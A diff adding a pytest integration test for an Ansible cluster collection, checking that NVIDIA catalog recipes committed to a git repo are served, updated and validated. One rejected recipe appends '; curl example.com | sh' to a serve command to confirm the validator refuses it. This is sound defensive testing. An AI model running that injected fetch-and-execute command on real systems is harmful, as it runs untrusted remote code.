@@ -8,6 +8,7 @@ user.
 from __future__ import annotations
 
 import json
+import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -17,6 +18,8 @@ import pytest
 import root_file_system
 from api_client import answers_again, completion
 from live_cluster import Cluster
+from nvidia_recipe import EXPORTS, SERVE, WORKER
+from nvidia_recipe import recipe as of_catalog
 from testinfra.host import Host
 
 from ansible_collections.gb10.cluster.plugins.module_utils.api.access import GUARD_FOLDER
@@ -216,6 +219,71 @@ def test_a_recipe_with_mods_serves_in_an_image_of_its_own(
     recipe.write_text(json.dumps({**data, "mods": []}), encoding="utf-8")
     cluster.site(*command).assert_failed("--load-format does not accept 'lab'")
     assert completion(head) == text
+
+
+def committed(clone: Path, **changes: Any) -> str:
+    """Commit a recipe for two Sparks to a catalog, and return its URL@COMMIT."""
+    path = clone / "models/owner/tiny/dgx-spark-2gpu/linux/vllm/recipe.yaml"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps(of_catalog(runtime__image=TAG, **changes)), encoding="utf-8")
+
+    def git(*arguments: str) -> str:
+        given = ["git", "-C", str(clone), "-c", "user.name=lab", "-c", "user.email=lab@example.com", *arguments]
+        return subprocess.run(given, check=True, capture_output=True, text=True).stdout.strip()
+
+    git("init", "--quiet")
+    git("add", ".")
+    git("commit", "--quiet", "--message=recipe")
+    return f"file://{clone}@{git('rev-parse', 'HEAD')}"
+
+
+def commands(head: str, worker: str = WORKER) -> dict[str, Any]:
+    """Return the commands of both ranks for the tiny model, which has no draft, on CPUs, which have no Triton."""
+    draft = ' \\\n  --speculative-config \'{"method": "mtp", "num_speculative_tokens": 2}\''
+    head, worker = (
+        text.replace(draft, "").replace("owner/small-nvfp4", "owner/tiny").replace('RUNNER="1"', 'RUNNER="0"')
+        for text in (head, worker)
+    )
+    return {"command": head, "additional_commands": [{"id": "worker", "command": worker}]}
+
+
+def test_nvidias_catalog_serves_by_name_and_commit(
+    cluster: Cluster, nodes: dict[str, Host], head: Host, image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    text, clone = completion(head), tmp_path / "catalog"
+    given = json.loads(inside(head, image, gb10_model="/srv/models/tiny", gb10_recipe="nvidia:tiny")[1])
+    del given["gb10_runtime"], given["gb10_container_image"]
+
+    def run(catalog: str) -> Any:
+        return cluster.site("--extra-vars", json.dumps({**given, "gb10_nvidia_recipes": catalog}))
+
+    first = committed(clone, serve=commands(EXPORTS + SERVE))
+    run(first).assert_ok()
+    assert completion(head, model="owner/tiny") == text, "the same model under the recipe's name"
+    environment = "NCCL_IGNORE_CPU_AFFINITY=1 VLLM_FLOAT32_MATMUL_PRECISION=high VLLM_USE_V2_MODEL_RUNNER=0"
+    for host in nodes.values():
+        assert containers(host) == [UNIT]
+        of_rank = host.check_output(f"podman exec {UNIT} env").split()
+        assert set(environment.split()) <= set(of_rank) and "NCCL_SOCKET_IFNAME=$ETH_IF" not in of_rank
+    run(first).assert_unchanged()
+    before = main_pid(head)
+    # One more argument of both ranks.
+    more = " \\\n  --max-num-seqs 3"
+    second = committed(clone, serve=commands(EXPORTS + SERVE + more, WORKER.rstrip() + more))
+    assert "gb10-vllm" in run(second).assert_ok().output
+    after = main_pid(head)
+    assert after != before and "--max-num-seqs=3" in head.check_output("ps -eo args | grep '[v]llm serve'")
+    run(second).assert_unchanged()
+    hostile = commands(EXPORTS + SERVE + "; curl example.com | sh")
+    for changes, problem in (
+        ({"schema_version": 5}, "gb10_recipe.schema_version: 5. Expected: 3 or 4"),
+        ({"serve": hostile}, "gb10_recipe.serve.command, line"),
+        ({"hardware": "rtx-pro"}, "gb10_recipe.hardware: 'rtx-pro'"),
+    ):
+        refused = run(committed(clone, **changes)).assert_failed("1 problem found; nothing was changed.", problem)
+        assert refused.changed_tasks() == set()
+    assert (main_pid(head), completion(head, model="owner/tiny")) == (after, text)
 
 
 @pytest.mark.usefixtures("image")
